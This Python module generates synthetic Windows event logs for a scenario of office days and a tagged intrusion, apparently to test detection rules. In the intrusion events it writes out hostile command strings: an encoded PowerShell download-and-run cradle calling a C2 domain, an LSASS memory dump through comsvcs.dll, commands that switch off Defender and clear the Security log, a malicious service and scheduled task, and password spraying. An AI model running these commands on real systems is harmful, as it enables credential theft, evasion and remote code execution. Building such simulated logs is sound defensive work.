"""Windows events of the scenario, as JSON lines in the nested form of EVTX dumpers: office days, and an intrusion."""

from __future__ import annotations

import base64
from collections.abc import Callable
from datetime import datetime, timedelta
from random import Random

import orjson

from vonggac.jobs.scenario.lines import Line, in_order, iso_utc, working_time
from vonggac.jobs.scenario.province import (
    AGENCIES,
    C2_ADDRESS,
    C2_DOMAIN,
    COLLEGE,
    COMMUNE_A,
    HEALTH,
    PEOPLE,
    SITES,
    Agency,
)

SYSMON = "Microsoft-Windows-Sysmon/Operational"
DEFENDER = "Microsoft-Windows-Windows Defender/Operational"
POWERSHELL = "Microsoft-Windows-PowerShell/Operational"
_PROVIDERS = {
    SYSMON: "Microsoft-Windows-Sysmon",
    DEFENDER: "Microsoft-Windows-Windows Defender",
    POWERSHELL: "Microsoft-Windows-PowerShell",
    "Security": "Microsoft-Windows-Security-Auditing",
    "System": "Service Control Manager",
}
_SYSTEM32 = "C:\\Windows\\System32\\"
_PS = _SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
_WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
_PROGRAMS = (
    (_WORD, '"{}" /n "C:\\Users\\{user}\\Documents\\Bao cao thang {n}.docx"'),
    (
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
        '"{}" "C:\\Users\\{user}\\Documents\\Du toan {n}.xlsx"',
    ),
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", '"{}" --type=renderer --renderer-client-id={n}'),
    (_SYSTEM32 + "svchost.exe", "{} -k netsvcs -p -s Schedule"),
    (_SYSTEM32 + "taskhostw.exe", "{} KEYROAMING"),
    (_SYSTEM32 + "SearchProtocolHost.exe", '"{}" Global\\UsGthrFltPipeMssGthrPipe{n}'),
    (_PS, '"{}" -NoProfile -ExecutionPolicy RemoteSigned -File C:\\QuanTri\\kiem-ke-{n}.ps1'),
    (_SYSTEM32 + "cmd.exe", "{} /c dir C:\\QuanTri\\{n}"),
)

Event = tuple[str, int, dict[str, object]]


class _Writer:
    """Turns events into lines; record numbers and process identifiers are of each machine."""

    def __init__(self, random: Random) -> None:
        self.random = random
        self._records: dict[tuple[str, str], int] = {}

    def line(self, time: datetime, host: str, event: Event, rules: tuple[str, ...] = ()) -> Line:
        """One event of ``host``."""
        channel, number, data = event
        record = self._records.get((host, channel)) or self.random.randint(10_000, 900_000)
        self._records[host, channel] = record + 1
        provider = "Microsoft-Windows-Eventlog" if number in (104, 1102) else _PROVIDERS[channel]
        system = {
            "Provider": {"#attributes": {"Name": provider}},
            "EventID": number,
            "Version": 0,
            "Level": 4,
            "Task": number if channel == SYSMON else 0,
            "Opcode": 0,
            "Keywords": "0x8000000000000000",
            "TimeCreated": {"#attributes": {"SystemTime": iso_utc(time)}},
            "EventRecordID": record,
            "Execution": {
                "#attributes": {"ProcessID": self.random.randint(400, 9000), "ThreadID": self.random.randint(400, 9000)}
            },
            "Channel": channel,
            "Computer": host,
        }
        part = "UserData" if number == 1102 else "EventData"
        body: dict[str, object] = {"LogFileCleared": data} if number == 1102 else data
        return Line(time, orjson.dumps({"Event": {"System": system, part: body}}).decode(), rules)

    def guid(self) -> str:
        """A process identifier as Sysmon writes them."""
        text = f"{self.random.getrandbits(128):032x}"
        return f"{{{text[:8]}-{text[8:12]}-{text[12:16]}-{text[16:20]}-{text[20:]}}}".upper()


def _process(writer: _Writer, user: str, image: str, command: str, parent: str = "C:\\Windows\\explorer.exe") -> Event:
    digest = f"{writer.random.getrandbits(256):064X}"
    return SYSMON, 1, {
        "RuleName": "-",
        "ProcessGuid": writer.guid(),
        "ProcessId": writer.random.randrange(1000, 20000, 4),
        "Image": image,
        "CommandLine": command,
        "CurrentDirectory": f"C:\\Users\\{user}\\",
        "User": f"SONGVAN\\{user}",
        "IntegrityLevel": "Medium",
        "Hashes": f"SHA256={digest}",
        "ParentProcessGuid": writer.guid(),
        "ParentProcessId": writer.random.randrange(1000, 20000, 4),
        "ParentImage": parent,
        "ParentCommandLine": parent,
    }  # fmt: skip


def _logon(user: str, address: str, logon_type: int = 3) -> Event:
    return "Security", 4624, {
        "SubjectUserName": "-", "TargetUserName": user, "TargetDomainName": "SONGVAN", "LogonType": logon_type,
        "AuthenticationPackageName": "Kerberos", "IpAddress": address, "IpPort": "0",
    }  # fmt: skip


def _failed(user: str, address: str, sub_status: str) -> Event:
    return "Security", 4625, {
        "SubjectUserName": "-", "TargetUserName": user, "TargetDomainName": "SONGVAN", "Status": "0xc000006d",
        "SubStatus": sub_status, "LogonType": 3, "AuthenticationPackageName": "NTLM", "IpAddress": address, "IpPort": "0",
    }  # fmt: skip


def _connection(writer: _Writer, user: str, image: str, source: str, target: str, name: str, port: int = 443) -> Event:
    return SYSMON, 3, {
        "ProcessGuid": writer.guid(), "ProcessId": writer.random.randrange(1000, 20000, 4), "Image": image,
        "User": f"SONGVAN\\{user}", "Protocol": "tcp", "Initiated": "true", "SourceIp": source,
        "SourcePort": writer.random.randint(49152, 65535), "DestinationIp": target, "DestinationHostname": name,
        "DestinationPort": port,
    }  # fmt: skip


def _query(writer: _Writer, image: str, name: str, answer: str) -> Event:
    return SYSMON, 22, {
        "ProcessGuid": writer.guid(), "ProcessId": writer.random.randrange(1000, 20000, 4), "QueryName": name,
        "QueryStatus": "0", "QueryResults": f"::ffff:{answer};", "Image": image,
    }  # fmt: skip


def _everyday(writer: _Writer, user: str, agency: Agency, host: int) -> Event:
    """One event of an ordinary day."""
    random = writer.random
    image, command = random.choice(_PROGRAMS)
    site = random.choice(SITES)
    target = f"203.0.113.{random.randint(200, 250)}"
    makers: tuple[Callable[[], Event], ...] = (
        lambda: _process(writer, user, image, command.format(image, user=user, n=random.randint(1, 999))),
        lambda: _logon(user, agency.inner(host), random.choice((2, 3, 3, 7))),
        lambda: _connection(writer, user, _PROGRAMS[2][0], agency.inner(host), target, site),
        lambda: _query(writer, _PROGRAMS[2][0], site, target),
        lambda: (SYSMON, 11, {
            "ProcessGuid": writer.guid(), "Image": _WORD, "TargetFilename": f"C:\\Users\\{user}\\Documents\\~$o{random.randint(1, 999)}.docx",
        }),
        lambda: (SYSMON, 13, {
            "EventType": "SetValue", "Image": "C:\\Windows\\explorer.exe", "Details": "Binary Data",
            "TargetObject": f"HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\{random.randint(1, 99)}",
        }),
        lambda: ("Security", 4672, {"SubjectUserName": user, "SubjectDomainName": "SONGVAN", "PrivilegeList": "SeBackupPrivilege"}),
        lambda: ("System", 7036, {"param1": random.choice(("Windows Update", "BITS", "Print Spooler")), "param2": random.choice(("running", "stopped"))}),
        lambda: (DEFENDER, 2000, {"Product Name": "Microsoft Defender Antivirus", "Current security intelligence Version": f"1.421.{random.randint(1, 999)}.0"}),
        lambda: (POWERSHELL, 4104, {"MessageNumber": 1, "MessageTotal": 1, "ScriptBlockText": f"Get-ChildItem C:\\QuanTri\\{random.randint(1, 99)}", "Path": ""}),
        lambda: (SYSMON, 10, {
            "SourceImage": "C:\\Program Files\\Windows Defender\\MsMpEng.exe", "TargetImage": _SYSTEM32 + "lsass.exe",
            "GrantedAccess": "0x1000", "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d1e4",
        }),
        lambda: _failed(user, agency.inner(host), "0xc000006a"),
    )  # fmt: skip
    weights = (26, 14, 20, 14, 8, 8, 4, 4, 2, 2, 2, 1)
    return random.choices(makers, weights)[0]()


def _phishing(writer: _Writer, start: datetime) -> list[Line]:
    """A document starts PowerShell, memory is dumped, Defender goes off, the next machine gets a service and a task."""
    user, pc, server = "chi.dang", HEALTH.machine(14), HEALTH.machine(5, "SRV")
    script = f"IEX (New-Object Net.WebClient).DownloadString('http://{C2_DOMAIN}/lich')"
    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
    task = "<Task><Actions><Exec><Command>C:\\Users\\Public\\capnhat.exe</Command><Arguments>/silent</Arguments></Exec></Actions></Task>"
    trace = "C:\\Windows\\SYSTEM32\\ntdll.dll+9d1e4|C:\\Windows\\SYSTEM32\\dbgcore.DLL+6f2b"
    comsvcs = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 724 C:\\Users\\Public\\l.dmp full"
    steps: tuple[tuple[int, str, Event, tuple[str, ...]], ...] = (
        (0, pc, _process(writer, user, _WORD, f'"{_WORD}" /n "C:\\Users\\{user}\\Downloads\\Lich truc Tet.docm"'), ()),
        (9, pc, _process(writer, user, _PS, f"powershell.exe -nop -w hidden -enc {encoded}", _WORD), ("powershell_encoded_download", "office_starts_shell")),
        (11, pc, _query(writer, _PS, C2_DOMAIN, C2_ADDRESS), ()),
        (12, pc, _connection(writer, user, _PS, HEALTH.inner(14), C2_ADDRESS, C2_DOMAIN), ()),
        (340, pc, _process(writer, user, _SYSTEM32 + "rundll32.exe", comsvcs, _PS), ("credential_dumping",)),
        (341, pc, (SYSMON, 10, {
            "SourceImage": _SYSTEM32 + "rundll32.exe", "TargetImage": _SYSTEM32 + "lsass.exe", "GrantedAccess": "0x1fffff",
            "CallTrace": trace,
        }), ("credential_dumping",)),
        (600, pc, _process(writer, user, _PS, "powershell Set-MpPreference -DisableRealtimeMonitoring $true", _PS), ("security_tool_stopped",)),
        (602, pc, (DEFENDER, 5001, {"Product Name": "Microsoft Defender Antivirus"}), ("security_tool_stopped",)),
        (1800, server, _logon("quantri", HEALTH.inner(14)), ()),
        (1804, server, ("System", 7045, {
            "ServiceName": "CapNhat", "ImagePath": "%COMSPEC% /c start C:\\Users\\Public\\capnhat.exe",
            "ServiceType": "user mode service", "StartType": "auto start", "AccountName": "LocalSystem",
        }), ("suspicious_service_installed",)),
        (1870, server, ("Security", 4698, {"SubjectUserName": "quantri", "TaskName": "\\CapNhat", "TaskContent": task}), ("suspicious_scheduled_task",)),
        (5400, server, _process(writer, "quantri", _SYSTEM32 + "wevtutil.exe", "wevtutil cl Security", _SYSTEM32 + "cmd.exe"), ("event_log_cleared",)),
        (5401, server, ("Security", 1102, {"SubjectUserName": "quantri", "SubjectDomainName": "SONGVAN"}), ("event_log_cleared",)),
    )  # fmt: skip
    return [writer.line(start + timedelta(seconds=s), host, event, rules) for s, host, event, rules in steps]


def _elsewhere(writer: _Writer, start: datetime) -> list[Line]:
    """Password spraying on a domain controller, a web shell at the college, malware found in a commune."""
    lines = []
    controller = HEALTH.machine(2, "DC")
    for number, name in enumerate(("giamdoc", "ketoan", "vanthu", "hanhchinh", "admin1", "backup", "scan", "khth")):
        event = _failed(name, HEALTH.inner(14), "0xc0000064")
        lines.append(
            writer.line(start + timedelta(seconds=2 * number), controller, event, ("windows_password_spraying",))
        )
    web = COLLEGE.machine(3, "WEB")
    for number, command in enumerate(('"cmd.exe" /c whoami', '"cmd.exe" /c net user', '"cmd.exe" /c dir C:\\inetpub')):
        event = _process(writer, "IIS_AppPool", _SYSTEM32 + "cmd.exe", command, _SYSTEM32 + "inetsrv\\w3wp.exe")
        lines.append(
            writer.line(start + timedelta(hours=3, seconds=20 * number), web, event, ("web_server_spawns_shell",))
        )
    found: dict[str, object] = {
        "Product Name": "Microsoft Defender Antivirus", "Threat Name": "Trojan:Win32/SongVan.A", "Severity Name": "Severe",
        "Category Name": "Trojan", "Path": "file:_D:\\thong-bao.exe", "Action Name": "Quarantine",
    }  # fmt: skip
    for number, event_id in enumerate((1116, 1117)):
        event = (DEFENDER, event_id, found)
        lines.append(
            writer.line(
                start + timedelta(hours=5, seconds=3 * number), COMMUNE_A.machine(21), event, ("antivirus_detection",)
            )
        )
    return lines


def windows_events(random: Random, end: datetime, n_everyday: int) -> list[Line]:
    """``n_everyday`` ordinary events of the last three days and, on the day before ``end``, the intrusions."""
    writer = _Writer(random)
    lines = []
    for time in sorted(working_time(random, end, 3) for _ in range(n_everyday)):
        agency, host = random.choice(AGENCIES), random.randint(11, 18)
        lines.append(writer.line(time, agency.machine(host), _everyday(writer, random.choice(PEOPLE), agency, host)))
    start = end - timedelta(hours=15, minutes=20)
    return in_order([*lines, *_phishing(writer, start), *_elsewhere(writer, start + timedelta(minutes=20))])
